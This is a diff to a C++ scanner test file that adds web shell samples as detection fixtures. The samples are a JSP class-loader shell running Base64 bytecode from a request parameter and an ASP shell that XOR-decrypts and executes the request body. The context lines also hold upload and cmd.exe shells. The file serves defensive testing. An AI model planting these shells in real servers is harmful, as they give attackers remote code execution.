@@ -394,6 +394,15 @@ TEST(Scanner, ServerPageTaintIsDetected) {
        "<%\nSet s = Server.CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\n"
        "s.Write Request.BinaryRead(Request.TotalBytes)\n"
        "s.SaveToFile Server.MapPath(Request.QueryString(\"f\")), 2\n%>"},
+      {"class loader method", "a.jsp",
+       "<%! class X extends ClassLoader { X(ClassLoader p) { super(p); } Class Q(byte[] b) {"
+       " return super.defineClass(b, 0, b.length); } } %><% byte[] d = java.util.Base64"
+       ".getDecoder().decode(request.getParameter(\"p\")); new X(getClass().getClassLoader())"
+       ".Q(d).newInstance(); %>"},
+      {"xor body", "a.asp",
+       "<%\nk=\"e45e329feb5d925b\"\nsize=Request.TotalBytes\ncontent=Request.BinaryRead(size)\n"
+       "For i=1 To size\nresult=result&Chr(ascb(midb(content,i,1)) Xor Asc(Mid(k,(i and 15)+1,1)))"
+       "\nNext\nexecute(result)\n%>"},
       {"razor", "a.cshtml",
        "@{ var c = Request[\"c\"]; System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + c); }"},
       {"web method", "a.asmx",
